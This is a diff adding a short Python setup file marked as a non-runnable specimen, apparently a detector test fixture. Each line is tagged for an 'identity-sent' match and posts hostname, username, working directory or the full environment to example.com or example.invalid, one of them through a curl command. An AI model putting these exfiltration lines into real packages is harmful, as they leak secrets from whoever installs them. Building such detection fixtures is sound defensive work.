@@ -1,0 +1,17 @@
+raise SystemExit("specimen: not to be run")
+import getpass
+import os
+import platform
+import socket
+import requests
+import urllib.parse
+import urllib.request
+from setuptools import setup
+
+facts = {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}
+requests.post("https://example.com/in", json=facts)  # match: identity-sent
+requests.get("https://example.com/?n=" + platform.node())  # match: identity-sent
+query = urllib.parse.urlencode({"e": dict(os.environ)})
+urllib.request.urlopen("https://example.invalid/x?" + query)  # match: identity-sent
+os.system("curl -d \"$(env)\" https://example.com/in")  # match: identity-sent
+setup(name="specimen")
